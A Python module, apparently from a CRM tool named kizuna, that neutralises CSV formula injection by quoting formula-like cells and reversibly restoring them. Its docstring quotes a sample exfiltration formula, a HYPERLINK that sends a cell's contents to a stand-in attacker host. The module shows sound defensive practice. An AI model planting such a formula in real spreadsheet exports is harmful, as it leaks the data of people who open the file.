"""CSV cells a spreadsheet would run as formulas, neutralised (OWASP "CSV injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets: a customer or
item id such as ``=HYPERLINK("http://evil.example?"&A1)`` in a CRM export runs
when a marketer opens the file. :func:`neutralise_formulas` prefixes such
cells with a single quote, which spreadsheets read as "text follows"; numeric
columns (a negative amount) are left alone.

The quote is undone by :func:`restore_formulas`, exactly: a value that already
starts with quotes followed by one of those characters gets one more quote, so
every text value comes back as it was. kizuna applies it where it reads back a
CSV it wrote for people (campaign decisions and outcomes); the files kizuna
only reads back (the event export, the CSV contact log) keep values as they are.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pandas as pd

#: First characters that make a spreadsheet cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _is_formula(value: str) -> bool:
    # Quotes already in front are skipped, so the prefix stays reversible.
    return value.lstrip(QUOTE).startswith(FORMULA_STARTS)


def _text_columns(frame: pd.DataFrame) -> list[str]:
    return [
        col
        for col in frame.columns
        if pd.api.types.is_object_dtype(frame[col])
        or pd.api.types.is_string_dtype(frame[col])
        or isinstance(frame[col].dtype, pd.CategoricalDtype)
    ]


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every formula-like text cell prefixed by ``'`` (a copy if any is).

    Only text cells (``str`` values of object, string or categorical columns)
    change; numbers, missing values and other columns are left as they are.

    Parameters
    ----------
    frame
        A table about to be written as text, shape (n_rows, n_columns).

    Returns
    -------
    pandas.DataFrame
        ``frame`` itself when no cell changes.
    """
    return _map_text(frame, lambda v: QUOTE + v if _is_formula(v) else v)


def restore_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`neutralise_formulas`: drop the ``'`` it put before a formula-like cell.

    Parameters
    ----------
    frame
        A table read back from text, shape (n_rows, n_columns).

    Returns
    -------
    pandas.DataFrame
        ``frame`` itself when no cell changes.
    """
    return _map_text(frame, lambda v: v[1:] if v.startswith(QUOTE) and _is_formula(v) else v)


def _map_text(frame: pd.DataFrame, change: Callable[[str], str]) -> pd.DataFrame:
    out = frame
    for col in _text_columns(frame):
        dtype = frame[col].dtype
        categorical = isinstance(dtype, pd.CategoricalDtype)
        column = frame[col].astype(object) if categorical else frame[col]
        changed = column.map(lambda v: change(v) if isinstance(v, str) else v)
        if changed.equals(column):
            continue
        if out is frame:
            out = frame.copy()
        # A categorical column becomes text: its categories were the unquoted values.
        out[col] = changed if categorical else changed.astype(dtype)
    return out


def restored_from(frame: pd.DataFrame, source: Path) -> pd.DataFrame:
    """:func:`restore_formulas` for a table read from a text file (not Parquet).

    kizuna neutralises only its text outputs, so a Parquet value that starts
    with a quote is the value itself.

    Parameters
    ----------
    frame
        The table read, shape (n_rows, n_columns).
    source
        The file or folder it was read from.

    Returns
    -------
    pandas.DataFrame
    """
    if source.is_dir() or source.name.lower().endswith(".parquet"):
        return frame
    return restore_formulas(frame)
